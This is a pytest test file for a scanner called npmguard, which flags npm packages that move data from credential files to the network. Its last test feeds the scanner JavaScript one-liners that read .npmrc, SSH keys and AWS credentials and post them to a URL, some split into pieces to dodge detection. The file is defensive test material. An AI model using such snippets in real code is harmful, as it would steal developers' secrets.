from __future__ import annotations

from pathlib import Path

import pytest

from npmguard.detect.prefilter import Prefilter
from npmguard.detect.rule import load_ruleset
from npmguard.javascript.flow_marks import sink_marks, source_marks
from npmguard.javascript.flow_words import Sink, Source, flow_name, flow_of

RULES = Path(__file__).parents[3] / "docs" / "writing-rules.md"


@pytest.mark.parametrize("source", Source)
@pytest.mark.parametrize("sink", Sink)
def test_a_flow_is_named_by_both_its_ends(source: Source, sink: Sink) -> None:
    assert flow_of(flow_name(source, sink)) == (source, sink)


def test_every_end_has_marks() -> None:
    for marks in [*map(source_marks, set(Source) - {Source.EMBEDDED}), *map(sink_marks, Sink)]:
        assert marks
        assert all(group and all(len(mark.text) > 1 for mark in group) for group in marks)
    assert source_marks(Source.EMBEDDED) == ()


def test_the_guide_tells_of_every_word() -> None:
    rows = [line.split("`")[1] for line in RULES.read_text("utf-8").splitlines() if line.startswith("| `")]
    assert set(Source) <= set(rows)
    assert set(Sink) <= set(rows)


@pytest.fixture(scope="module")
def prefilter(tmp_path_factory: pytest.TempPathFactory) -> Prefilter:
    folder = tmp_path_factory.mktemp("rules")
    examples = (
        "examples:\n  match: [{name: a, code: a}, {name: b, code: b}]\n"
        "  no_match: [{name: c, code: c}, {name: d, code: d}]\n"
    )
    (folder / "steals.yml").write_text(
        "id: steals\nkind: signal\ntitle: t\ndescription: d\n"
        f"match: {{all: [{{flow: {{from: credential-file, to: network}}}}]}}\n{examples}"
    )
    (folder / "thief.yml").write_text(
        "id: thief\nkind: rule\ntitle: t\nseverity: high\nconfidence: high\ndescription: d\n"
        f"false_positives: f\nremediation: r\nscope: file\nmatch: {{all: [steals]}}\n{examples}"
    )
    return Prefilter(load_ruleset([str(folder)]))


@pytest.mark.parametrize(
    ("code", "parsed"),
    [
        ("fetch(url, {body: fs.readFileSync(home + '/.npmrc')})", True),
        ("require('https').request(url).end(fs.readFileSync(path.join(home, '.ssh', name)))", True),
        ("require('node:https').request(url).end(fs.readFileSync(home + '/.aws/credentials'))", True),
        ("import axios from 'axios'; axios.post(url, await readFile(`${home}/.npmrc`))", True),
        ("fetch(url, {body: fs.readFileSync(home + '/.np' + 'mrc')})", True),
        ("self['fet' + 'ch'](url, {body: fs.readFileSync(home + '/.npmrc')})", True),
        ("fetch(url, {body: fs.readFileSync(home + '/settings')})", False),
        ("settings.load(fs.readFileSync(home + '/.npmrc'))", False),
        ("// see https://docs.example for .npmrc", False),
    ],
)
def test_a_file_with_marks_of_both_ends_is_parsed(prefilter: Prefilter, code: str, *, parsed: bool) -> None:
    assert ("a.js" in prefilter.select([("a.js", code.encode())])) is parsed
